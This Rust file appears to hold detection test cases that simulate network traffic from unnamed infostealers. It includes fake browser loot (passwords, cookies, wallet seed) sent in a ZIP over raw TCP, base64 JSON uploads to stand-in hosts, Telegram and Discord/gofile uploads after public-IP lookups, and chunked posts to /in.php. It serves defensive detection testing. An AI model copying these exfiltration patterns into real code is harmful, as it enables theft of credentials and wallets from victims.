//! Theft by families nobody has named: only the behaviour can be found.

use super::{Case, VICTIM, finds};
use crate::net::{Net, noise, zip};
use crate::tls;
use crate::web::{browsing, end, once, part, program};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;

const EXFIL: &[&str] = &["exfiltration"];

pub fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "raw-tcp-zip",
            about: "A ZIP of browser files as the first bytes of a raw TCP stream to a bare address.",
            expect: finds("203.0.113.80", None, EXFIL, "high"),
            wire: raw_zip,
        },
        Case {
            name: "json-base64-zip",
            about: "A JSON upload whose member holds a ZIP in base64, after a look at the public address.",
            expect: finds("drop.example", None, EXFIL, "high"),
            wire: json_zip,
        },
        Case {
            name: "telegram-upload",
            about: "Public address asked, then one large upload to the messenger's bot interface by a host without the messenger.",
            expect: finds("api.telegram.org", None, EXFIL, "medium"),
            wire: telegram,
        },
        Case {
            name: "webhook-and-file-host",
            about: "Public address asked, an upload to a file host, then a short call to a webhook.",
            expect: [
                finds("discord.com", None, EXFIL, "medium"),
                finds("store1.gofile.io", None, EXFIL, "medium"),
            ]
            .into_iter()
            .flatten()
            .collect(),
            wire: webhook,
        },
        Case {
            name: "opaque-on-443",
            about: "An unknown protocol on port 443: no TLS, client first, 95 KB up in one burst.",
            expect: finds("203.0.113.83", None, EXFIL, "medium"),
            wire: opaque_443,
        },
        Case {
            name: "many-parts",
            about: "Thirty equal encrypted pieces posted to one path of a bare address after libraries were fetched there.",
            expect: finds("203.0.113.84", None, EXFIL, "high"),
            wire: many_parts,
        },
    ]
}

fn loot() -> Vec<u8> {
    zip(&[
        ("Passwords.txt", b"URL: https://shop.example/\nUsername: erika\nPassword: nothing\n"),
        ("Cookies/Edge_Default.txt", &noise(1, 7000)),
        ("Wallets/Example/seed.dat", &noise(2, 900)),
        ("Screenshot.png", &noise(3, 31_000)),
        ("System.txt", b"PC: EXAMPLE-PC\n"),
    ])
}

fn raw_zip(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.80:7711");
    net.up(&mut tcp, &loot());
    net.down(&mut tcp, b"ok");
    net.close(tcp);
}

fn json_zip(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "api.ipify.org", "198.51.100.63");
    once(
        net,
        VICTIM,
        "198.51.100.63:80",
        ("GET /", &["Host: api.ipify.org", "User-Agent: python-requests/2.32.3", "Accept: */*"], b""),
        ("200 OK", "text/plain", b"192.0.2.10"),
    );
    net.wait_ms(4000);
    net.resolve(VICTIM, "drop.example", "203.0.113.81");
    let body = format!("{{\"pc\":\"EXAMPLE-PC\",\"user\":\"erika\",\"file\":\"{}\"}}", B64.encode(loot()));
    once(
        net,
        VICTIM,
        "203.0.113.81:8080",
        (
            "POST /upload",
            &[
                "Host: drop.example:8080",
                "User-Agent: python-requests/2.32.3",
                "Accept: */*",
                "Content-Type: application/json",
            ],
            body.as_bytes(),
        ),
        ("200 OK", "text/plain", b"ok"),
    );
}

fn lookup_in_tls(net: &mut Net) {
    net.resolve(VICTIM, "api.ipify.org", "198.51.100.63");
    let mut tcp = net.tcp(VICTIM, "198.51.100.63:443");
    tls::open(net, &mut tcp, &tls::SYSTEM, Some("api.ipify.org"), None);
    tls::data(net, &mut tcp, true, 130);
    tls::data(net, &mut tcp, false, 260);
    net.close(tcp);
    net.wait_ms(5200);
}

fn telegram(net: &mut Net) {
    browsing(net, VICTIM);
    lookup_in_tls(net);
    net.resolve(VICTIM, "api.telegram.org", "198.51.100.90");
    for (up, down) in [(420, 700), (184_000, 900)] {
        let mut tcp = net.tcp(VICTIM, "198.51.100.90:443");
        tls::open(net, &mut tcp, &tls::SYSTEM, Some("api.telegram.org"), None);
        tls::data(net, &mut tcp, true, up);
        net.wait_ms(300);
        tls::data(net, &mut tcp, false, down);
        net.close(tcp);
        net.wait_ms(1500);
    }
}

fn webhook(net: &mut Net) {
    browsing(net, VICTIM);
    lookup_in_tls(net);
    for (name, addr, up, down) in
        [("store1.gofile.io", "198.51.100.91", 412_000, 900), ("discord.com", "198.51.100.92", 24_100, 1100)]
    {
        net.resolve(VICTIM, name, addr);
        let mut tcp = net.tcp(VICTIM, &format!("{addr}:443"));
        tls::open(net, &mut tcp, &tls::SYSTEM, Some(name), None);
        tls::data(net, &mut tcp, true, up);
        net.wait_ms(400);
        tls::data(net, &mut tcp, false, down);
        net.close(tcp);
        net.wait_ms(2500);
    }
}

fn opaque_443(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.83:443");
    let framed =
        |seed: u64, length: usize| [&(length as u32).to_le_bytes()[..], &noise(seed, length)].concat();
    net.up(&mut tcp, &framed(4, 84));
    net.down(&mut tcp, &framed(5, 12));
    net.wait_ms(800);
    net.up(&mut tcp, &framed(6, 95_000));
    net.down(&mut tcp, &framed(7, 4));
    net.close(tcp);
}

fn many_parts(net: &mut Net) {
    browsing(net, VICTIM);
    for library in ["nss3.dll", "sqlite3.dll", "mozglue.dll"] {
        once(
            net,
            VICTIM,
            "203.0.113.84:80",
            (&format!("GET /files/{library}"), &["Host: 203.0.113.84", "Cache-Control: no-cache"], b""),
            ("200 OK", "application/octet-stream", &program(8000)),
        );
    }
    for n in 0..30 {
        let b = "b7c1f2e39a";
        let mut body = part(b, "id", None, b"5d41402abc4b2a76");
        body.extend(part(b, "chunk", Some(("blob", "application/octet-stream")), &noise(400 + n, 9000)));
        body.extend(end(b));
        let kind = format!("Content-Type: multipart/form-data; boundary={b}");
        once(
            net,
            VICTIM,
            "203.0.113.84:80",
            ("POST /in.php", &["Host: 203.0.113.84", &kind, "Cache-Control: no-cache"], &body),
            ("200 OK", "text/html", b"1"),
        );
        net.wait_ms(300);
    }
}
